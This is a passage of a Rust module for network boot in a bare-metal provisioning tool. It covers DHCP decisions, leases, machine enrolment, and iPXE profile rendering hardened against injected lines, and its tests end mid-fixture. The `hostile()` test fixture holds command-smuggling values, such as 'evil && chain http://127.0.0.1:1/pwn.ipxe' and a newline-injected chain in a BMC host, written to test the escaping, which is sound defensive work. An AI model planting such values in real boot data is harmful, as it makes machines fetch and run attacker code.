//! Network boot as the binary sees it: the [`BootPlanner`] the `pxe` crate asks (answer or
//! stay silent, reserved addresses, leases kept in the store), the rule that says whether a
//! node has network-boot work, and the enrolment of unknown machines that ask for a
//! profile.
//!
//! The rules, in one place:
//!
//! - **Network-boot work.** A known node has it when a task of its active workflow that is
//!   running or pending has a `profile` option (the name of an iPXE template), or when the
//!   node carries a tag `boot-profile=NAME` (a node that always boots from the network).
//!   DHCP answers unknown MACs (so that they are discovered) and nodes with work; it stays
//!   silent for every other node, which then boots from its disk.
//! - **Reservations.** A node tag `ip=A.B.C.D` reserves that address for every MAC of the
//!   node in full DHCP mode.
//! - **Leases** live in the store keyspace [`LEASES`]: key the MAC (`aa:bb:...`), value the
//!   lease as JSON. DHCP stores the lease changes that queued up while its previous write
//!   ran in one durable commit ([`BootPlanner::store_leases`]).
//! - **Enrolment.** An unknown MAC asking for a profile becomes a node (identifiers: every
//!   MAC reported, and the SMBIOS UUID), gets a `pxe` catalog of what it reported, and runs
//!   the discovery graph — where the operator enabled it, and at a bounded rate
//!   ([`enrolment`]). The identifier index's `Absent` precondition makes this race-safe:
//!   the loser of two concurrent enrolments re-reads and finds the winner's node.
//! - **Callback tokens** are rendered only for a request that proves it is the node
//!   ([`access`]): by the node's capability, which the URLs built here carry (`cap=`), or,
//!   in full DHCP mode, by its leased address.

pub mod access;
pub mod config;
pub mod enrolment;

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;

use anyhow::Context as _;

use metalgraph_engine::nodes::{self, Node};
use metalgraph_engine::{Engine, Error, NodeCap, NodeTask, RunRequest, TaskState};
use metalgraph_pxe::{
    BootPlanner, BoxFuture, ClientInfo, Decision, Lease, LeaseChange, LeaseStoreError, MacAddr,
    PxeService,
};
use metalgraph_store::{Batch, Store};
use serde_json::{Value, json};
use tracing::{info, warn};

pub use access::{NodeAccess, Proof};
pub use config::{BootArgs, BootConfig, DhcpSetting, NodeTokens};
pub use enrolment::Enrolment;
pub use metalgraph_engine::{query_escape, waiting_vars};

/// The store keyspace of full-mode DHCP leases: MAC → lease (JSON).
pub const LEASES: &str = "leases";
/// The graph an unknown machine that asks for a profile runs, unless configured otherwise.
pub const DEFAULT_DISCOVERY_GRAPH: &str = "Graph.Discovery.Pxe";
/// The task option naming the iPXE template the profile endpoint serves while the task is
/// the node's current one.
pub const PROFILE_OPTION: &str = "profile";
/// The catalog source of what DHCP and iPXE reported about a machine.
pub const PXE_CATALOG: &str = "pxe";
/// A node tag `ip=A.B.C.D` reserves that address for the node.
const RESERVATION_TAG: &str = "ip=";
/// A node tag `boot-profile=NAME` makes the node boot profile `NAME` whenever no task asks
/// for another one.
const BOOT_PROFILE_TAG: &str = "boot-profile=";

// `SHIPPED_TEMPLATES`: the files of `templates/` (profiles and install scripts), embedded
// by build.rs.
include!(concat!(env!("OUT_DIR"), "/templates.rs"));

/// The shipped template `name` (a profile or an install script), if there is one: used
/// when the templates directory has no file of that name, or none is configured.
pub fn builtin_template(name: &str) -> Option<&'static str> {
    SHIPPED_TEMPLATES
        .iter()
        .find(|(n, _)| *n == name)
        .map(|(_, text)| *text)
}

/// What a node should boot from the network, if anything.
#[derive(Debug, Clone)]
pub enum BootWork {
    /// A running task has a profile: serve it.
    Task {
        /// The task, with its merged (unrendered) options.
        task: Box<NodeTask>,
        /// The profile's template name.
        profile: String,
    },
    /// A pending task has a profile: the node booted early; it should retry until the task
    /// starts.
    Pending {
        /// The task's label, for the message the node shows.
        label: String,
        /// The task's workflow.
        workflow_id: String,
        /// The node's capability for the task, which the retry URL carries.
        cap: NodeCap,
    },
    /// No task asks for a profile, but the node's `boot-profile=` tag does.
    Always {
        /// The profile's template name.
        profile: String,
    },
    /// Nothing: the node boots from its disk.
    None,
}

impl BootWork {
    /// Whether DHCP should answer the node.
    pub fn wants_network_boot(&self) -> bool {
        !matches!(self, BootWork::None)
    }

    /// The node's capability for the task that asks for a profile, if one does.
    pub fn cap(&self) -> Option<&NodeCap> {
        match self {
            BootWork::Task { task, .. } => Some(&task.cap),
            BootWork::Pending { cap, .. } => Some(cap),
            BootWork::Always { .. } | BootWork::None => None,
        }
    }
}

/// The node's network-boot work (see the module documentation for the rule).
pub async fn boot_work(engine: &Engine, node: &Node) -> Result<BootWork, Error> {
    let tasks = engine.current_tasks(&node.id).await?;
    // Running tasks come first, so a running task's profile wins over a pending one's.
    for task in tasks {
        let Some(profile) = task
            .options
            .get(PROFILE_OPTION)
            .and_then(Value::as_str)
            .filter(|p| !p.trim().is_empty())
            .map(str::to_owned)
        else {
            continue;
        };
        return Ok(match task.state {
            TaskState::Running => BootWork::Task {
                task: Box::new(task),
                profile,
            },
            _ => BootWork::Pending {
                label: task.label,
                workflow_id: task.workflow_id,
                cap: task.cap,
            },
        });
    }
    Ok(match tag_value(node, BOOT_PROFILE_TAG) {
        Some(profile) => BootWork::Always {
            profile: profile.to_owned(),
        },
        None => BootWork::None,
    })
}

/// The value of the first tag `PREFIX...` of `node`.
fn tag_value<'a>(node: &'a Node, prefix: &str) -> Option<&'a str> {
    node.tags
        .iter()
        .find_map(|t| t.strip_prefix(prefix))
        .map(str::trim)
        .filter(|v| !v.is_empty())
}

/// The node owning one of `macs`, if any (the first match in order).
pub async fn find_node(engine: &Engine, macs: &[MacAddr]) -> Result<Option<Node>, Error> {
    for mac in macs {
        if let Some(node) = engine.nodes().by_identifier(&mac.to_string()).await? {
            return Ok(Some(node));
        }
    }
    Ok(None)
}

/// What an unknown machine reported about itself, stored as its `pxe` catalog.
#[derive(Debug, Clone, Default)]
pub struct Report {
    /// Every MAC it gave, the booting one first.
    pub macs: Vec<MacAddr>,
    /// The SMBIOS UUID, as iPXE's `${uuid}` or DHCP option 97 gave it.
    pub uuid: Option<String>,
    /// iPXE's `${platform}`: `pcbios` or `efi`.
    pub platform: Option<String>,
    /// iPXE's `${buildarch}`: `i386`, `x86_64`, `arm64`, ...
    pub buildarch: Option<String>,
    /// The capability the request presented (`cap=`), if any; never stored.
    pub cap: Option<String>,
}

/// A UUID worth identifying a machine by: firmware that has none reports all zeros or all
/// ones, which many machines would share.
fn useful_uuid(uuid: &str) -> Option<String> {
    let u = uuid.trim().to_ascii_lowercase();
    let hex: String = u.chars().filter(|c| *c != '-').collect();
    let valid = hex.len() == 32 && hex.chars().all(|c| c.is_ascii_hexdigit());
    let blank = hex.chars().all(|c| c == '0') || hex.chars().all(|c| c == 'f');
    (valid && !blank).then_some(u)
}

/// The outcome of [`enroll`].
#[derive(Debug, Clone)]
pub enum Enrolled {
    /// A new node was created and its discovery workflow started (`None` when it could not
    /// start; the reason was logged).
    New {
        /// The new node.
        node: Node,
        /// The discovery workflow's id.
        workflow: Option<String>,
    },
    /// Another request enrolled the machine first; this is its node.
    Existing(Node),
}

/// Makes an unknown machine a node: creates it (identifiers: its MACs and useful UUID),
/// stores its `pxe` catalog and runs `discovery_graph` on it. Two concurrent calls for the
/// same machine create one node: the loser's commit fails on the identifier index and it
/// returns the winner's node.
pub async fn enroll(
    engine: &Engine,
    discovery_graph: &str,
    report: &Report,
) -> Result<Enrolled, Error> {
    let Some(first) = report.macs.first() else {
        return Err(Error::BadRequest(
            "a machine to enrol needs at least one MAC address".into(),
        ));
    };
    let uuid = report.uuid.as_deref().and_then(useful_uuid);
    let mut identifiers: Vec<String> = report.macs.iter().map(MacAddr::to_string).collect();
    identifiers.extend(uuid.clone());
    let node = Node {
        id: String::new(),
        name: format!("pxe-{}", first.to_string().replace(':', "")),
        identifiers,
        node_type: "compute".to_owned(),
        tags: vec!["discovered-by=pxe".to_owned()],
        obms: Vec::new(),
        created_at: String::new(),
        updated_at: String::new(),
    };
    let catalog = json!({
        "macs": report.macs.iter().map(MacAddr::to_string).collect::<Vec<_>>(),
        "uuid": report.uuid,
        "platform": report.platform,
        "buildarch": report.buildarch,
    });
    let macs = &report.macs;
    let attempt = async |node: Node| match engine.nodes().create(node).await {
        Ok(n) => Ok(Some(n)),
        // Another request owns one of the identifiers (it enrolled this machine first, or
        // another machine reports the same UUID).
        Err(Error::AlreadyExists(_) | Error::Conflict(_)) => Ok(None),
        Err(other) => Err(other),
    };
    let mut created = attempt(node.clone()).await?;
    if created.is_none() {
        if let Some(existing) = find_node(engine, macs).await? {
            return Ok(Enrolled::Existing(existing));
        }
        // Not ours by MAC: the UUID is taken by another node. Enrol by MACs alone.
        let mut by_mac = node;
        by_mac.identifiers.retain(|i| nodes::looks_like_mac(i));
        created = attempt(by_mac).await?;
    }
    let node = match created {
        Some(n) => n,
        None => {
            return match find_node(engine, macs).await? {
                Some(existing) => Ok(Enrolled::Existing(existing)),
                None => Err(Error::Conflict(format!(
                    "the node for MAC {} was created and removed concurrently; try again",
                    macs[0]
                ))),
            };
        }
    };
    engine
        .nodes()
        .put_catalog(&node.id, PXE_CATALOG, &catalog)
        .await?;
    info!(node = %node.id, mac = %first, uuid = ?uuid, "unknown machine enrolled from its PXE boot");
    let run = engine
        .run(RunRequest {
            graph: discovery_graph.to_owned(),
            node: Some(node.id.clone()),
            options: Default::default(),
        })
        .await;
    let workflow = match run {
        Ok(view) => Some(view.instance_id),
        Err(e) => {
            warn!(node = %node.id, graph = discovery_graph, error = %e, "the discovery graph could not start");
            None
        }
    };
    Ok(Enrolled::New { node, workflow })
}

/// The renderer of profiles (iPXE scripts): every printed value must pass
/// [`ipxe::check_value`](metalgraph_pxe::ipxe::check_value), so no value, whatever its
/// source, can add, end or join a script line.
pub fn profile_renderer() -> metalgraph_engine::template::Renderer {
    metalgraph_engine::template::Renderer::checked(|value| {
        metalgraph_pxe::ipxe::check_value(value).map_err(|e| e.to_string())
    })
}

/// `v` with every string in it (keys aside) made an inert iPXE word
/// ([`ipxe::word`](metalgraph_pxe::ipxe::word)): for what a node or a BMC controls.
fn ipxe_words(v: &Value) -> Value {
    match v {
        Value::String(s) => Value::String(metalgraph_pxe::ipxe::word(s).into_owned()),
        Value::Array(items) => Value::Array(items.iter().map(ipxe_words).collect()),
        Value::Object(m) => {
            Value::Object(m.iter().map(|(k, x)| (k.clone(), ipxe_words(x))).collect())
        }
        other => other.clone(),
    }
}

/// The template variables of a profile: the same `node`, `api` and `notification` as the
/// templates endpoint, plus `task` and its rendered `options` when a task asked for the
/// profile, `profile` (`name`, and `url` to chain to on retry) and `client` (what iPXE
/// reported).
///
/// The task's token and the node's capability for it — `task.token`, `task.cap`,
/// `notification` and the `cap=` of `profile.url` — are there only when the request proved
/// it is the node (`proven`, see [`access`]); otherwise they are absent, so a profile that
/// uses them fails to render and the machine gets the retry script, and options rendered
/// over them fail the same way.
///
/// What a node or a BMC controls — the whole `node` view (name, identifiers, tags, OBM
/// host), the profile name (it may come from a tag), the finished tasks' outputs the options
/// are rendered over (`context`, which holds BMC data) — is made of inert iPXE words here, so
/// it can neither add arguments or commands nor expand settings. `client` was checked
/// against a strict grammar when the request was read; `options`, `task` and `api` are the
/// operator's and keep their spaces and `${...}`.
pub struct ProfileVars<'a> {
    /// The node.
    pub node: &'a Node,
    /// The task that asked for the profile, if one did.
    pub task: Option<&'a NodeTask>,
    /// The profile's name.
    pub profile: &'a str,
    /// `api.base`.
    pub api_base: &'a str,
    /// `api.nodeBase`.
    pub node_base: &'a str,
    /// What iPXE reported.
    pub report: &'a Report,
    /// Whether the request proved it is the node: only then are the task's token and
    /// capability rendered.
    pub proven: bool,
}

impl ProfileVars<'_> {
    /// The profile URL of this node, for scripts that retry: with the capability when the
    /// request proved it is the node.
    pub fn profile_url(&self) -> String {
        let cap = self.task.filter(|_| self.proven).map(|t| t.cap.as_str());
        profile_url(self.node_base, &self.report.macs, cap)
    }

    /// Builds the variables; the task's options are rendered the way the scheduler renders
    /// them when the task starts. Errors name the option at fault.
    pub fn build(&self) -> Result<Value, String> {
        let node_base = self.node_base.trim_end_matches('/');
        let api = metalgraph_engine::ApiUrls {
            base: self.api_base.to_owned(),
            node_base: node_base.to_owned(),
        }
        .node_vars();
        let mut vars = json!({
            "node": ipxe_words(&self.node.template_view()),
            "api": api,
            "profile": {"name": metalgraph_pxe::ipxe::word(self.profile), "url": self.profile_url()},
            "client": {
                "macs": self.report.macs.iter().map(MacAddr::to_string).collect::<Vec<_>>(),
                "uuid": self.report.uuid,
                "platform": self.report.platform,
                "buildarch": self.report.buildarch,
            },
        });
        if let Some(t) = self.task {
            let task = task_vars(&self.node.id, t, self.proven);
            let options = task_options(
                &metalgraph_engine::ApiUrls {
                    base: self.api_base.to_owned(),
                    node_base: self.node_base.to_owned(),
                },
                ipxe_words(&Value::Object(t.context.clone())),
                vars["node"].clone(),
                t,
                task.clone(),
            )?;
            vars["task"] = task;
            vars["options"] = Value::Object(options);
            if self.proven {
                vars["notification"] = notification_vars(node_base, &self.node.id, t);
            }
        }
        Ok(vars)
    }
}

/// The `task` variable of what is rendered for a node: the task's id, label, workflow and
/// node, and its token and capability only when the request proved it is the node.
pub fn task_vars(node_id: &str, t: &NodeTask, proven: bool) -> Value {
    let mut task = json!({
        "id": t.task_id,
        "label": t.label,
        "workflowId": t.workflow_id,
        "nodeId": node_id,
    });
    if proven {
        task["token"] = json!(t.token);
        task["cap"] = json!(t.cap.as_str());
    }
    task
}

/// A node's task's options rendered the way the scheduler renders them when the task
/// starts (its dialect, its `context`, `node` and `task` as given). Errors name the option.
pub fn task_options(
    api: &metalgraph_engine::ApiUrls,
    context: Value,
    node: Value,
    t: &NodeTask,
    task: Value,
) -> Result<serde_json::Map<String, Value>, String> {
    let vars = metalgraph_engine::scheduler::option_vars(t.dialect, api, context, node, task);
    metalgraph_engine::template::Renderer::new()
        .render_task_options(t.dialect, &t.options, &t.data, &vars)
}

/// The `notification` variables of templates rendered for the node that proved itself:
/// `url` (the callback URL with the token), `token`, `workflowId`, and `cap`, the node's
/// capability for the task, for URLs to further templates.
pub fn notification_vars(node_base: &str, node_id: &str, task: &NodeTask) -> Value {
    waiting_vars(
        node_base,
        node_id,
        &task.workflow_id,
        &task.token,
        task.cap.as_str(),
    )
}

/// The profile URL for `macs` under the node-facing base URL, with the node's capability
/// when given.
pub fn profile_url(node_base: &str, macs: &[MacAddr], cap: Option<&str>) -> String {
    let base = format!("{}/profiles", node_base.trim_end_matches('/'));
    let url = match macs.first() {
        Some(mac) => metalgraph_pxe::ipxe::profile_url(&base, mac),
        None => base,
    };
    match cap {
        Some(cap) => format!("{url}&cap={}", query_escape(cap)),
        None => url,
    }
}

/// The address nodes should use for a listener bound to `addr`: `addr` itself, unless it
/// is the unspecified address, which nodes cannot reach; then the boot address.
pub fn reachable(addr: SocketAddr, boot_address: Option<Ipv4Addr>) -> SocketAddr {
    match boot_address {
        Some(ip) if addr.ip().is_unspecified() => SocketAddr::from((ip, addr.port())),
        _ => addr,
    }
}

/// The URL of the boot files directory (`tftp_root`) on the node-facing listener, which
/// DHCP hands UEFI HTTP Boot firmware with the name of its binary: `/boot/` beside the
/// node-facing base URL's `/api/2.0`, as `api.files` is beside it; `None` when that base
/// does not end in `/api/2.0`.
pub fn boot_files_url(node_base: &str) -> Option<String> {
    node_base
        .trim_end_matches('/')
        .strip_suffix("/api/2.0")
        .filter(|root| !root.is_empty())
        .map(|root| format!("{root}/boot/"))
}

/// Binds the network-boot service configured in `config` (DHCP and TFTP sockets; stored
/// leases loaded in full mode), or returns `None` when network boot is off. Profile URLs
/// handed out by DHCP start with `node_base`, the node-facing API's base URL, and so do
/// the iPXE binaries' URLs UEFI HTTP Boot firmware gets ([`boot_files_url`]); DHCP answers
/// unknown machines only when `config` enables enrolment.
pub async fn bind_service(
    config: &BootConfig,
    engine: &Engine,
    store: Arc<dyn Store>,
    node_base: &str,
) -> anyhow::Result<Option<PxeService>> {
    let Some(mut options) = config.pxe_options().map_err(anyhow::Error::msg)? else {
        return Ok(None);
    };
    if config.dhcp != DhcpSetting::Off && node_base.is_empty() {
        anyhow::bail!(
            "network boot needs the node-facing API (node_listen, --node-listen): iPXE fetches its profile there"
        );
    }
    let root = &config.tftp_root;
    if options.tftp.is_some() && !root.is_dir() {
        anyhow::bail!(
            "the TFTP root {} is not a directory (boot.tftp_root, --tftp-root; Debian's ipxe package fills /usr/lib/ipxe)",
            root.display()
        );
    }
    if config.dhcp != DhcpSetting::Off {
        match boot_files_url(node_base) {
            Some(url) => {
                if !root.is_dir() {
                    warn!(dir = %root.display(), "the boot files directory (boot.tftp_root) is not a directory: UEFI HTTP Boot clients will be answered with URLs that do not exist");
                }
                info!(%url, file = %options.boot_files.uefi_x64, "UEFI HTTP Boot clients (x86-64) are answered with the boot file under this URL");
                options.boot_files.http_base = Some(url);
            }
            None => warn!(
                node_base,
                "UEFI HTTP Boot is not answered: the node-facing base URL (node_api_base_url) does not end in /api/2.0, so the URL of the boot files (/boot/) is unknown"
            ),
        }
    }
    let planner = Arc::new(
        StorePlanner::new(engine.clone(), store, node_base).enrolling(config.enrolment_on()),
    );
    let service = PxeService::bind(options, planner)
        .await
        .context("network boot could not start")?;
    Ok(Some(service))
}

/// The address a node tag `ip=A.B.C.D` reserves for the node, if it has a valid one.
fn reserved_address(node: &Node) -> Option<Ipv4Addr> {
    let ip = tag_value(node, RESERVATION_TAG)?;
    match ip.parse() {
        Ok(ip) => Some(ip),
        Err(_) => {
            warn!(node = %node.id, tag = %format!("{RESERVATION_TAG}{ip}"), "the reservation tag is not an IPv4 address; ignored");
            None
        }
    }
}

/// The [`BootPlanner`] over metalgraph's nodes, workflows and store.
pub struct StorePlanner {
    engine: Engine,
    /// The store the binary's `leases` keyspace lives in (the engine's own store).
    store: Arc<dyn Store>,
    /// The node-facing base URL (`http://10.0.0.1:8090/api/2.0`) profile URLs start with.
    node_base: String,
    /// Whether unknown machines are enrolled, and so answered.
    enrolling: bool,
}

impl StorePlanner {
    /// A planner answering with profile URLs under `node_base`, and answering unknown
    /// machines (see [`StorePlanner::enrolling`]).
    pub fn new(engine: Engine, store: Arc<dyn Store>, node_base: impl Into<String>) -> Self {
        StorePlanner {
            engine,
            store,
            node_base: node_base.into(),
            enrolling: true,
        }
    }

    /// Whether DHCP answers unknown machines, so that they ask for a profile and are
    /// enrolled: without enrolment they would only be told to boot from their disks.
    pub fn enrolling(mut self, on: bool) -> Self {
        self.enrolling = on;
        self
    }

    async fn decision(&self, mac: MacAddr) -> Result<Decision, Error> {
        if !mac.is_unicast_nonzero() {
            return Ok(Decision::Silent {
                reason: format!("{mac} is a group or all-zero MAC, which identifies no machine"),
            });
        }
        let found = match self.engine.nodes().by_identifier(&mac.to_string()).await? {
            None => None,
            Some(node) => {
                let work = boot_work(&self.engine, &node).await?;
                Some((node, work))
            }
        };
        // The URL carries the node's capability for the task that asks for a profile, so
        // that the profile it fetches holds the task's callback (see `access`).
        let answer = |cap: Option<&NodeCap>, reserved| Decision::Answer {
            profile_url: profile_url(&self.node_base, &[mac], cap.map(NodeCap::as_str)),
            reserved,
        };
        Ok(match found {
            None if self.enrolling => answer(None, None),
            None => Decision::Silent {
                reason: "unknown machine, and enrolment is off (boot.enrolment)".to_owned(),
            },
            Some((node, work)) if work.wants_network_boot() => {
                answer(work.cap(), reserved_address(&node))
            }
            Some((node, _)) => Decision::Silent {
                reason: format!(
                    "node {} has no network-boot work (no running or pending task with a '{PROFILE_OPTION}' option, no '{BOOT_PROFILE_TAG}' tag)",
                    node.id
                ),
            },
        })
    }

    fn store_err(what: &str, mac: &MacAddr, e: impl std::fmt::Display) -> LeaseStoreError {
        LeaseStoreError(format!("{what} the lease of {mac}: {e}"))
    }
}

impl BootPlanner for StorePlanner {
    fn decide<'a>(&'a self, client: &'a ClientInfo) -> BoxFuture<'a, Decision> {
        Box::pin(async move {
            match self.decision(client.mac).await {
                Ok(d) => d,
                Err(e) => Decision::Silent {
                    reason: format!("cannot look up the node of {}: {e}", client.mac),
                },
            }
        })
    }

    fn save_lease<'a>(&'a self, lease: &'a Lease) -> BoxFuture<'a, Result<(), LeaseStoreError>> {
        Box::pin(async move {
            let store = self.store.clone();
            let mac = lease.mac;
            let value =
                serde_json::to_vec(lease).map_err(|e| Self::store_err("cannot encode", &mac, e))?;
            tokio::task::spawn_blocking(move || {
                let mut batch = Batch::new();
                batch.put(LEASES, mac.to_string().into_bytes(), value);
                store.commit(batch)
            })
            .await
            .map_err(|e| Self::store_err("cannot save", &mac, e))?
            .map_err(|e| Self::store_err("cannot save", &mac, e))
        })
    }

    fn delete_lease<'a>(&'a self, mac: &'a MacAddr) -> BoxFuture<'a, Result<(), LeaseStoreError>> {
        Box::pin(async move {
            let store = self.store.clone();
            let mac = *mac;
            tokio::task::spawn_blocking(move || {
                let mut batch = Batch::new();
                batch.delete(LEASES, mac.to_string().into_bytes());
                store.commit(batch)
            })
            .await
            .map_err(|e| Self::store_err("cannot delete", &mac, e))?
            .map_err(|e| Self::store_err("cannot delete", &mac, e))
        })
    }

    fn store_leases<'a>(
        &'a self,
        changes: &'a [LeaseChange],
    ) -> BoxFuture<'a, Result<(), LeaseStoreError>> {
        Box::pin(async move {
            let mut batch = Batch::new();
            for change in changes {
                match change {
                    LeaseChange::Save(lease) => {
                        let value = serde_json::to_vec(lease)
                            .map_err(|e| Self::store_err("cannot encode", &lease.mac, e))?;
                        batch.put(LEASES, lease.mac.to_string().into_bytes(), value);
                    }
                    LeaseChange::Delete(mac) => {
                        batch.delete(LEASES, mac.to_string().into_bytes());
                    }
                }
            }
            let store = self.store.clone();
            let err = |e: &dyn std::fmt::Display| {
                LeaseStoreError(format!("cannot store {} lease changes: {e}", changes.len()))
            };
            tokio::task::spawn_blocking(move || store.commit(batch))
                .await
                .map_err(|e| err(&e))?
                .map_err(|e| err(&e))
        })
    }

    fn load_leases(&self) -> BoxFuture<'_, Result<Vec<Lease>, LeaseStoreError>> {
        Box::pin(async move {
            let store = self.store.clone();
            let entries = tokio::task::spawn_blocking(move || store.scan_prefix(LEASES, b""))
                .await
                .map_err(|e| LeaseStoreError(format!("cannot load leases: {e}")))?
                .map_err(|e| LeaseStoreError(format!("cannot load leases: {e}")))?;
            let mut leases = Vec::with_capacity(entries.len());
            for (key, value) in entries {
                match serde_json::from_slice::<Lease>(&value) {
                    Ok(l) => leases.push(l),
                    // One unreadable record must not stop DHCP; its address may be handed
                    // out again, which the log says.
                    Err(e) => {
                        warn!(key = %String::from_utf8_lossy(&key), error = %e, "an unreadable stored lease is ignored")
                    }
                }
            }
            Ok(leases)
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn blank_and_malformed_uuids_identify_nothing() {
        let cases = [
            (
                "27946B59-9E44-4FA7-8E91-000000000001",
                Some("27946b59-9e44-4fa7-8e91-000000000001"),
            ),
            ("00000000-0000-0000-0000-000000000000", None),
            ("ffffffff-ffff-ffff-ffff-ffffffffffff", None),
            ("", None),
            ("not-a-uuid", None),
        ];
        for (input, want) in cases {
            assert_eq!(useful_uuid(input).as_deref(), want, "{input:?}");
        }
    }

    #[test]
    fn boot_files_sit_beside_the_api() {
        for (node_base, want) in [
            (
                "http://10.0.0.1:8090/api/2.0",
                Some("http://10.0.0.1:8090/boot/"),
            ),
            (
                "http://10.0.0.1:8090/api/2.0/",
                Some("http://10.0.0.1:8090/boot/"),
            ),
            (
                "https://boot.example/metal/api/2.0",
                Some("https://boot.example/metal/boot/"),
            ),
            ("http://10.0.0.1:8090/api/current", None),
            ("/api/2.0", None),
            ("", None),
        ] {
            assert_eq!(boot_files_url(node_base).as_deref(), want, "{node_base}");
        }
    }

    #[test]
    fn profile_urls_carry_the_first_mac() {
        let mac: MacAddr = "52:54:00:00:00:01".parse().unwrap();
        assert_eq!(
            profile_url("http://10.0.0.1:8090/api/2.0/", &[mac], None),
            "http://10.0.0.1:8090/api/2.0/profiles?macs=52:54:00:00:00:01"
        );
        assert_eq!(
            profile_url("http://10.0.0.1:8090/api/2.0", &[mac], Some("00ff")),
            "http://10.0.0.1:8090/api/2.0/profiles?macs=52:54:00:00:00:01&cap=00ff"
        );
    }

    #[test]
    fn the_shipped_install_profile_is_an_ipxe_script() {
        let text = builtin_template("install.ipxe").expect("shipped");
        assert!(text.starts_with("#!ipxe\n"), "{text}");
        assert!(builtin_template("missing.ipxe").is_none());
    }

    /// Every shipped OS install (`Task.Base.Os.Install` definitions) renders its profile and
    /// its install script for a node, with the definition's own options, with only the few
    /// RackHD's own definitions are sure to set (the rest are the job's null defaults), and
    /// with its own options plus those RackHD's definitions add under RackHD's names
    /// (`rackhdCallbackScript`, `kargs`, `username`, `password`, ...): then every install
    /// script but CoreOS's and Windows' also POSTs RackHD's tokenless callback at first
    /// boot, for the second wait of RackHD's graphs, and every profile that boots a kernel,
    /// but Windows' (wimboot), passes `kargs`.
    #[test]
    fn every_shipped_os_install_renders_its_profile_and_install_script() {
        let library = crate::library::library().expect("the library loads");
        let jobs = crate::server::jobs();
        let job = jobs.get("Task.Base.Os.Install").expect("registered");
        let node = Node {
            id: "n1".into(),
            name: "rack1-node7".into(),
            identifiers: vec!["52:54:00:00:00:07".into()],
            node_type: "compute".into(),
            tags: vec![],
            obms: vec![],
            created_at: String::new(),
            updated_at: String::new(),
        };
        let api = metalgraph_engine::ApiUrls {
            base: "http://10.0.0.1:8080/api/2.0".into(),
            node_base: "http://10.0.0.1:8090/api/2.0".into(),
        };
        let defs: Vec<_> = library
            .tasks
            .values()
            .filter(|d| d.implements_task == "Task.Base.Os.Install")
            .collect();
        assert!(defs.len() >= 9, "{}", defs.len());
        // Whether `text` calls RackHD's tokenless callback URL (not followed by `&token=`,
        // however the format writes `&`), once the XML reader has turned `&#x2f;` back.
        let tokenless = |text: &str| {
            let text = text.replace("&#x2f;", "/");
            let url = "http://10.0.0.1:8090/api/2.0/notification?nodeId=n1";
            text.match_indices(url).any(|(i, _)| {
                let rest = &text[i + url.len()..];
                !(rest.starts_with('&') || rest.starts_with("\\u0026"))
            })
        };
        for def in defs {
            let minimal: serde_json::Map<String, Value> = def
                .options
                .iter()
                .filter(|(k, _)| {
                    ["profile", "installScript", "installScriptUri", "repo"].contains(&k.as_str())
                })
                .map(|(k, v)| (k.clone(), v.clone()))
                .collect();
            let mut rackhd = def.options.clone();
            rackhd.extend(
                json!({
                    "rackhdCallbackScript": "rackhd.rackhdcallback",
                    "kargs": {"console": "ttyS0,115200n8", "nomodeset": ""},
                    "interface": "auto",
                    "installType": "minimal",
                    "username": "onrack",
                    "password": "RackHDRocks!",
                })
                .as_object()
                .unwrap()
                .clone(),
            );
            for (variant, given) in [
                ("own", &def.options),
                ("minimal", &minimal),
                ("rackhd", &rackhd),
            ] {
                let what = format!("{} ({variant} options)", def.injectable_name);
                let mut options = job.schema().defaults();
                options.extend(given.clone());
                if options
                    .get("version")
                    .is_none_or(|v| v.is_null() || v == "")
                {
                    options.insert("version".into(), json!("7"));
                }
                let task = NodeTask {
                    workflow_id: "wf".into(),
                    graph: "G".into(),
                    label: "install-os".into(),
                    task_id: "t".into(),
                    job: def.implements_task.clone(),
                    state: TaskState::Running,
                    options,
                    token: "0123456789abcdef0123456789abcdef".into(),
                    cap: metalgraph_engine::NodeCaps::random().cap("n1", "wf", "t", "tok"),
                    context: Default::default(),
                    dialect: metalgraph_engine::template::Dialect::of_job(&def.implements_task),
                    data: Vec::new(),
                };
                let profile = task.options["profile"].as_str().unwrap().to_owned();
                let text =
                    builtin_template(&profile).unwrap_or_else(|| panic!("{what}: {profile}"));
                let script = render(text, &node, Some(&task), &profile)
                    .unwrap_or_else(|e| panic!("{what}: profile {profile}: {e}"));
                assert!(script.starts_with("#!ipxe\n"), "{what}: {script}");
                if variant == "rackhd"
                    && profile != "windows.ipxe"
                    && !script.contains("\nsanboot ")
                {
                    assert!(
                        script.contains(" console=ttyS0,115200n8 nomodeset"),
                        "{what}: {profile} does not pass kargs:\n{script}"
                    );
                }
                let Some(name) = task.options["installScript"].as_str() else {
                    continue;
                };
                let text = builtin_template(name).unwrap_or_else(|| panic!("{what}: {name}"));
                let t = task_vars(&node.id, &task, true);
                let vars = json!({
                    "node": node.template_view(),
                    "api": api.node_vars(),
                    "task": t,
                    "notification": notification_vars(&api.node_base, &node.id, &task),
                    "options": task_options(&api, json!({}), node.template_view(), &task, t.clone())
                        .unwrap_or_else(|e| panic!("{what}: options: {e}")),
                });
                let rendered = metalgraph_engine::template::Renderer::checked(
                    metalgraph_engine::template::no_control_characters,
                )
                .render_str(text, &vars)
                .unwrap_or_else(|e| panic!("{what}: install script {name}: {e}"));
                // The callback URL, however the format quotes it, carries the task's token.
                assert!(
                    rendered.contains("notification?nodeId=n1")
                        && rendered.contains("0123456789abcdef0123456789abcdef"),
                    "{what}: {name} does not call back:\n{rendered}"
                );
                // RackHD's first-boot callback, only with rackhdCallbackScript.
                let first_boot = variant == "rackhd"
                    && !["coreos-ignition.json", "windows-unattend.xml"].contains(&name);
                assert_eq!(
                    tokenless(&rendered),
                    first_boot,
                    "{what}: {name} and RackHD's first-boot callback:\n{rendered}"
                );
                if variant == "rackhd" && name == "windows-unattend.xml" {
                    assert!(
                        rendered.contains("<Name>onrack</Name>")
                            && rendered.contains("<Value>RackHDRocks!</Value>"),
                        "{what}: {name} does not take username and password:\n{rendered}"
                    );
                }
            }
        }
    }

    /// A node whose name, tags and BMC-reported data try to add commands to its boot script,
    /// and a running install task whose options the operator wrote.
    fn hostile() -> (Node, NodeTask, Report) {
        let node = Node {
            id: "n1".into(),
            name: "evil && chain http://127.0.0.1:1/pwn.ipxe".into(),
            identifiers: vec!["52:54:00:00:00:01".into()],
            node_type: "compute".into(),
            tags: vec!["role=x ; reboot".into()],
            obms: vec![nodes::Obm {
                service: "redfish-obm-service".into(),
                config: nodes::ObmConfig {
                    host: "10.0.0.5\nchain http://127.0.0.1:1/pwn.ipxe".into(),
                    ..Default::default()
                },
            }],
            created_at: String::new(),
